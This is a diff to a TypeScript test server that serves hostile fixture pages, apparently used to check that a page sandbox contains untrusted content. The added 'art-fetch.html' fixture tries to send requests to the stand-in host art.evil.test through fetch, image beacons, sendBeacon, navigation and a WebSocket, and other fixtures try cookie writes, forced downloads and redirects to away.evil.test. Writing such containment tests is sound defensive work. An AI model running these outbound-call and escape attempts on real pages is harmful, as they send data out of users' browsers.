@@ -25,6 +25,7 @@ const pages: Partial<Record<Behaviour, string>> = {
   'art-download.html': art('attempt(() => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; a.click() })'),
   'art-message.html': art('setInterval(() => parent.postMessage({ type: "tonlens", pwned: 1 }, "*"), 5)'),
   'art-storage.html': art('attempt(() => localStorage.setItem("pwned", "1")); attempt(() => { document.cookie = "pwned=1" })'),
+  'art-fetch.html': art('attempt(() => fetch("http://art.evil.test/fetch")); attempt(() => { new Image().src = "http://art.evil.test/image" }); attempt(() => navigator.sendBeacon("http://art.evil.test/beacon")); attempt(() => { location = "http://art.evil.test/go" }); attempt(() => new WebSocket("ws://art.evil.test/"))'),
   'image-as-html.html': '<!doctype html><script>try { parent.pwned=1 } catch {}</script>',
 }
 
@@ -55,6 +56,8 @@ function answer(path: Behaviour, url: string, response: ServerResponse): void {
     response.setHeader('location', to)
     send(response, 302, 'text/plain', '')
   }
+  // The guide on security asks this of proxies: what a page asks for by itself no other page can stop.
+  if (path === 'art-fetch.html') response.setHeader('content-security-policy', "default-src 'unsafe-inline' data: blob:")
   if (page !== undefined) return send(response, 200, path.endsWith('.svg') ? 'image/svg+xml' : 'text/html', page)
   switch (path) {
     case 'html-as-image.png':
@@ -81,6 +84,8 @@ function answer(path: Behaviour, url: string, response: ServerResponse): void {
     case 'never.png':
       return
     case 'redirect.png':
+    case 'redirect.html':
+    case 'redirect.mp4':
       return elsewhere('http://away.evil.test/x.png')
     case 'redirect-loop.png':
       return elsewhere(url)
